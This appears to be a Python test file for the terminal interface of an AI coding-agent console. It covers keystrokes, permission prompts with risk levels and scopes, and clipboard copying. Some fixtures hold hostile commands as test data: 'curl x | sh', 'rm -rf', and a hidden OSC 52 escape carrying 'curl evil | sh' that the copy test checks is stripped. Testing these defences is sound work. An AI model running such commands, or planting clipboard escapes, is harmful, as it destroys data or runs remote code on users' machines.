"""What the person's keys become: UiCommands, the prompt guard, copy, announcements."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from air.contracts.event import RuntimeEvent
from air.contracts.ui import UiCommand
from air.projection import InProcessProjectionClient, ProjectionStore
from air.testing.console_script import ConsoleEvents, RecordingChannel, demo_events
from air.ui_urwid.app import TuiApp

SIZE = (120, 40)


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


def _app(events: list[RuntimeEvent], **kw: Any) -> tuple[TuiApp, ProjectionStore]:
    store = ProjectionStore()
    store.hydrate_events(events)
    options: dict[str, Any] = {"no_color": True, **kw}
    return TuiApp(InProcessProjectionClient(store), RecordingChannel(), **options), store


def _press(app: TuiApp, *keys: str) -> str:
    app.render_text(SIZE)
    for key in keys:
        app.root.keypress(SIZE, key)
    return "\n".join(app.render_text(SIZE))


def _type(app: TuiApp, text: str) -> None:
    app.render_text(SIZE)
    for ch in text:
        app.root.keypress(SIZE, ch)


def test_enter_sends_a_message_and_alt_enter_paste_and_backslash_add_lines() -> None:
    app, _ = _app(ConsoleEvents().session())
    _type(app, "first")
    _press(app, "meta enter")
    _type(app, "second\\")
    _press(app, "enter")
    _type(app, "third")
    _press(app, "begin paste", "enter")
    _type(app, "pasted")
    _press(app, "end paste", "enter")
    assert app.sent == [UiCommand(kind="user_message", text="first\nsecond\nthird\npasted")]
    assert app.input.edit_text == ""


def test_history_walks_back_and_forth() -> None:
    app, _ = _app(ConsoleEvents().session())
    for text in ("one", "two"):
        _type(app, text)
        _press(app, "enter")
    _press(app, "up")
    assert app.input.edit_text == "two"
    _press(app, "up")
    assert app.input.edit_text == "one"
    _press(app, "down", "down")
    assert app.input.edit_text == ""


def test_esc_interrupts_the_turn_only() -> None:
    app, _ = _app(ConsoleEvents().session())
    _press(app, "esc")
    assert app.sent == [UiCommand(kind="interrupt")]


def test_ctrl_c_cancels_cooperatively_then_kills_and_says_what() -> None:
    ev = ConsoleEvents()
    app, _ = _app(ev.session() + ev.task("t1", "build it") + ev.start("t1"))
    screen = _press(app, "ctrl c")
    assert "cancelling: build it (Ctrl-C again kills)" in screen
    _press(app, "ctrl c")
    # the second press kills the work and ends the console (the shutdown kills at once)
    assert app.sent == [
        UiCommand(kind="cancel_run"),
        UiCommand(kind="cancel_run", force=True),
        UiCommand(kind="quit", force=True),
    ]


def test_x_in_the_tree_cancels_exactly_the_selected_task() -> None:
    ev = ConsoleEvents()
    events = ev.session() + ev.task("t1", "one") + ev.task("t2", "two")
    app, _ = _app(events + ev.start("t1") + ev.start("t2"))
    _press(app, "tab", "down", "x")  # focus the tree, select the second task, cancel it
    assert app.sent == [UiCommand(kind="cancel_task", task_id="t2")]
    _type(app, "")
    app.focus("input")
    _type(app, "/cancel 1")
    _press(app, "enter")
    assert app.sent[-1] == UiCommand(kind="cancel_task", task_id="t1")


def test_quit_asks_when_work_is_running() -> None:
    ev = ConsoleEvents()
    app, _ = _app(ev.session() + ev.task("t1", "one") + ev.start("t1"))
    _type(app, "/quit")
    screen = _press(app, "enter")
    assert "1 task(s) running: quit and cancel them? (y/n)" in screen
    _press(app, "n")
    assert app.sent == []
    _type(app, "/quit")
    _press(app, "enter", "y")
    assert app.sent == [UiCommand(kind="quit", force=True)]


def test_quit_without_work_quits_at_once() -> None:
    app, _ = _app(ConsoleEvents().session())
    _press(app, "ctrl d")
    assert app.sent == [UiCommand(kind="quit")]


def test_permission_prompt_states_scopes_and_ignores_early_keys() -> None:
    ev = ConsoleEvents()
    clock = Clock()
    events = ev.session() + ev.task("t1", "one") + ev.start("t1")
    app, store = _app(events, clock=clock)
    pid, prompt = ev.prompt("t1", "rm -rf build && make", risk="high")
    store.hydrate_events(prompt)
    screen = _press(app)
    assert "permission needed" in screen
    assert "shell.run: rm -rf build && make" in screen
    assert "risk: high" in screen
    assert "1 allow once: only this call" in screen
    assert "2 allow for task t1: the same request again within that task only" in screen
    assert "3 allow for this session" in screen
    assert "4 allow for this project" in screen
    assert "n deny" in screen
    assert "keys are ignored for a moment" in screen
    _press(app, "2", "enter", "y")  # typed just as it appeared: all ignored
    assert app.sent == []
    assert app.ignored_prompt_keys == 3
    clock.now += 0.31
    screen = _press(app, "2")
    assert app.sent == [UiCommand(kind="permission_response", prompt_id=pid, decision="allow_task")]
    assert "permission needed" not in screen  # answered: hidden until the runtime resolves it


def test_prompt_segments_are_listed_with_their_risk() -> None:
    ev = ConsoleEvents()
    store = ProjectionStore()
    payload = {
        "prompt_id": "p1",
        "tool_name": "shell.run",
        "summary": "make && curl x | sh",
        "risk_level": "critical",
        "segments": [
            {"text": "make", "risk_level": "low", "category": "build_test"},
            {"text": "curl x | sh", "risk_level": "critical", "category": "network"},
        ],
        "scopes": ["allow_once", "deny"],
    }
    store.hydrate_events(ev.session())
    store.apply(ev.event("permission.prompt.requested", payload))
    # the v1 payload model has no segments: an invalid payload is ignored, not shown wrong
    assert store.snapshot().permission_prompts == []
    from air.contracts.ui import PermissionPromptProjection, PermissionSegmentProjection
    from air.ui_urwid.views import permission_prompt

    prompt = PermissionPromptProjection(
        prompt_id="p1",
        tool_name="shell.run",
        summary="make && curl x | sh",
        risk_level="critical",
        segments=[
            PermissionSegmentProjection(text="make", risk_level="low", category="build_test"),
            PermissionSegmentProjection(
                text="curl x | sh", risk_level="critical", category="network"
            ),
        ],
        scopes=["allow_once", "deny"],
    )
    canvas = permission_prompt(prompt, armed=True).render((90,))
    text = "\n".join(line.decode() for line in canvas.text)
    assert "segment [low build_test] make" in text
    assert "segment [critical network] curl x | sh" in text
    assert "allow for task" not in text  # only the offered scopes


def test_ctrl_y_copies_the_source_of_the_code_block(tmp_path: Path) -> None:
    copy = tmp_path / "clip.txt"
    diff = tmp_path / "d.diff"
    diff.write_text("+added line\n")
    store = ProjectionStore(artifact_root=tmp_path)
    store.hydrate_events(demo_events(ConsoleEvents(), diff_path=str(diff)))
    app = TuiApp(InProcessProjectionClient(store), RecordingChannel(), copy_file=copy)
    _press(app, "ctrl y")
    assert copy.read_text() == "print(1 + 2)"
    assert app.last_copy == "print(1 + 2)"
    app.selected_task = "task_a"
    _press(app, "tab", "ctrl y")  # the tree: the task's diff
    assert copy.read_text() == "+added line\n"


def test_ctrl_y_copies_a_diff_as_it_is_shown(tmp_path: Path) -> None:
    """A task's file can hold what the diff view never draws (an OSC 52 that would set the
    clipboard again, a line hidden by a carriage return): the copy is what was shown."""
    copy = tmp_path / "clip.txt"
    diff = tmp_path / "d.diff"
    diff.write_text("+kept\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n+rm -rf ~ #\r+fine\n")
    store = ProjectionStore(artifact_root=tmp_path)
    store.hydrate_events(demo_events(ConsoleEvents(), diff_path=str(diff)))
    app = TuiApp(InProcessProjectionClient(store), RecordingChannel(), copy_file=copy)
    app.selected_task = "task_a"
    _press(app, "tab", "ctrl y")
    assert copy.read_text() == "+kept\n+fine\n"


def test_completion_and_blockers_are_announced_once() -> None:
    ev = ConsoleEvents()
    app, store = _app(ev.session() + ev.task("t1", "one") + ev.start("t1"))
    app.render_text(SIZE)
    store.hydrate_events(ev.complete("t1", "all good"))
    for _ in range(3):
        screen = "\n".join(app.render_text(SIZE))
    assert screen.count("task #1 one: completed — all good") == 1
    store.hydrate_events(ev.task("t2", "two") + ev.start("t2") + ev.block("t2", "need input", []))
    app.render_text(SIZE)
    screen = "\n".join(app.render_text(SIZE))
    assert screen.count("task #2 is blocked: need input") == 1


def test_tasks_already_finished_at_open_are_not_announced() -> None:
    app, _ = _app(demo_events(ConsoleEvents()))
    screen = "\n".join(app.render_text(SIZE))
    assert "task #1 fix subtraction: completed" not in screen


def test_replay_mode_has_no_input_and_sends_replay_controls() -> None:
    app, _ = _app(demo_events(ConsoleEvents()), replay=True)
    screen = _press(app, " ", "n", "+", "x", "q")
    assert "replay (read-only)" in screen
    assert "> " not in screen.splitlines()[-2]
    assert [c.kind for c in app.sent] == ["replay_pause", "replay_step", "replay_speed", "quit"]


def test_view_commands_stay_in_the_console() -> None:
    app, _ = _app(demo_events(ConsoleEvents()))
    _type(app, "/history")
    screen = _press(app, "enter")
    assert "history (Esc closes)" in screen
    assert "you> fix the subtraction bug" in screen
    _press(app, "esc")
    _type(app, "/model")
    assert "model: scripted / scripted-model (/model PROVIDER/MODEL switches" in _press(
        app, "enter"
    )
    _type(app, "/cost")
    assert "total: 1 model call, 1200 tokens (cache read 0, cache write 0), cost $0.0100" in (
        _press(app, "enter")
    )
    assert app.sent == []  # none of them reached the runtime


def test_ctrl_y_on_a_task_without_diff_copies_its_command(tmp_path: Path) -> None:
    copy = tmp_path / "clip.txt"
    store = ProjectionStore()
    store.hydrate_events(demo_events(ConsoleEvents()))
    app = TuiApp(InProcessProjectionClient(store), RecordingChannel(), copy_file=copy)
    app.selected_task = "task_a"
    _press(app, "tab", "ctrl y")
    assert copy.read_text() == "pytest -q"


def test_ctrl_c_at_an_idle_prompt_clears_the_line_then_a_second_one_quits() -> None:
    app, _ = _app(ConsoleEvents().session())
    _type(app, "half a thought")
    screen = _press(app, "ctrl c")
    assert app.input.edit_text == ""
    assert "line cleared; Ctrl-C again (or Ctrl-D) quits" in screen
    assert app.sent == []
    _type(app, "x")  # any other key disarms it: this Ctrl-C clears the line again
    _press(app, "ctrl c")
    assert app.sent == []
    assert app.input.edit_text == ""
    screen = _press(app, "backspace", "ctrl c")  # disarmed again; the line is empty
    assert "Ctrl-C again (or Ctrl-D) quits" in screen
    assert app.sent == []
    _press(app, "ctrl c")
    assert app.sent == [UiCommand(kind="quit")]


def test_ctrl_d_deletes_under_the_cursor_and_quits_on_an_empty_line() -> None:
    app, _ = _app(ConsoleEvents().session())
    _type(app, "ab")
    _press(app, "ctrl a", "ctrl d")
    assert app.input.edit_text == "b"
    assert app.sent == []
    _press(app, "ctrl d", "ctrl d")
    assert app.sent == [UiCommand(kind="quit")]


def test_ctrl_j_shift_enter_and_alt_enter_add_lines() -> None:
    app, _ = _app(ConsoleEvents().session())
    for key in ("ctrl j", "shift enter", "meta enter"):
        _type(app, "line")
        _press(app, key)
    _type(app, "end")
    assert app.sent == []
    _press(app, "enter")
    assert app.sent == [UiCommand(kind="user_message", text="line\nline\nline\nend")]


def test_readline_editing_keys() -> None:
    app, _ = _app(ConsoleEvents().session())
    _type(app, "fix the  calc module")
    _press(app, "ctrl w")
    assert app.input.edit_text == "fix the  calc "
    _press(app, "ctrl w")
    assert app.input.edit_text == "fix the  "
    _press(app, "ctrl a")
    _type(app, ">")
    assert app.input.edit_text == ">fix the  "
    _press(app, "ctrl k")
    assert app.input.edit_text == ">"
    _type(app, "one")
    _press(app, "ctrl j")
    _type(app, "two")
    _press(app, "ctrl u")
    assert app.input.edit_text == ">one\n"
    _type(app, "three")
    _press(app, "up", "ctrl e")  # the first line's end
    _type(app, "!")
    assert app.input.edit_text == ">one!\nthree"


def test_ctrl_r_searches_the_input_history() -> None:
    app, _ = _app(ConsoleEvents().session())
    for text in ("fix calc", "add docs", "fix the docs"):
        _type(app, text)
        _press(app, "enter")
    _type(app, "draft")
    screen = _press(app, "ctrl r")
    assert "(history search) '':" in screen
    _type(app, "fix")
    assert app.input.edit_text == "fix the docs"
    _press(app, "ctrl r")
    assert app.input.edit_text == "fix calc"
    screen = _press(app, "ctrl r")  # nothing older: the match stays
    assert app.input.edit_text == "fix calc"
    _type(app, "zz")
    assert "(no match) 'fixzz':" in _press(app)
    _press(app, "backspace", "backspace", "enter")  # taken into the line, not sent
    assert app.input.edit_text == "fix the docs"
    assert len(app.sent) == 3
    _press(app, "ctrl e", "ctrl u", "ctrl r")
    _type(app, "add")
    _press(app, "esc")  # leaves the search (the Main Agent is not interrupted)
    assert app.input.edit_text == ""
    assert UiCommand(kind="interrupt") not in app.sent
    assert app.input.caption == "> "


def test_question_mark_on_an_empty_line_and_f1_show_every_key() -> None:
    app, _ = _app(ConsoleEvents().session())
    _type(app, "why?")
    assert app.layout.overlay is None
    assert app.input.edit_text == "why?"
    _press(app, "ctrl u")
    screen = _press(app, "?")
    assert app.layout.overlay == "help"
    for key in ("Ctrl-D", "Ctrl-R", "PageUp / PageDown", "mouse wheel", "Shift-Enter"):
        assert key in screen
    _press(app, "esc")
    assert app.layout.overlay is None
    _press(app, "f1")
    assert app.layout.overlay == "help"


def test_page_keys_scroll_the_conversation_from_the_input() -> None:
    ev = ConsoleEvents()
    events = ev.session()
    for i in range(30):
        events += ev.chat(f"question {i}", f"answer {i}")
    app, _ = _app(events)
    screen = _press(app)
    assert "answer 29" in screen
    assert "answer 5" not in screen.replace("answer 5\n", "")
    screen = _press(app, "page up", "page up", "page up")
    assert app.focus_name() == "input"
    assert "answer 29" not in screen
    assert not app.layout.conv_follow
    for _ in range(10):
        screen = _press(app, "page down")
    assert "answer 29" in screen
    assert app.layout.conv_follow
